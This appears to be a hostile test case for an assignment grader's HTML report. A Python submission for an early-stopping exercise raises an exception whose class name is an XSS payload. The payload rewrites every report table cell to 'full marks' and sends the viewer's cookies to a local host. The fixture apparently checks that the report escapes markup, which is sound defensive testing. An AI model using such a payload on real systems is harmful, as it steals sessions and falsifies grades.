# attack: markup_in_the_name_of_an_error
# kind: hostile
# tries: runs a script in the browser of whoever opens the report, from the name of an exception that the callback raises
# seen: the tag is in the page as a tag
# never: <img src=x onerror="document.querySelectorAll('td').forEach(cell => cell.textContent = 'full marks'); new Image().src = '//127.0.0.1/?seen=' + encodeURIComponent(document.cookie)">
# deserves: 3.4e=fail
# %% task: 3.4e
text = """<img src=x onerror="document.querySelectorAll('td').forEach(cell => cell.textContent = 'full marks'); new Image().src = '//127.0.0.1/?seen=' + encodeURIComponent(document.cookie)">"""
Trouble = type(text, (Exception,), {})


def stop_if_no_loss_decrease(net, epoch, epoch_stats):
    raise Trouble(text)


plotter_early_stop2 = HistoryPlotter(plots=[], table=[], rows=4, cols=1)
for row, lr in enumerate([0.1, 0.01, 0.001, 0.0001]):
    net = build_net()
    optimizer = torch.optim.Adam(net.parameters(), lr=lr)
    history = fit(net, fashion_train, fashion_validation, optimizer, epochs=150, batch_size=32,
                  after_epoch=stop_if_no_loss_decrease, device=device)
    plotter_early_stop2.add(f'lr={lr}', history, row=row, col=0)
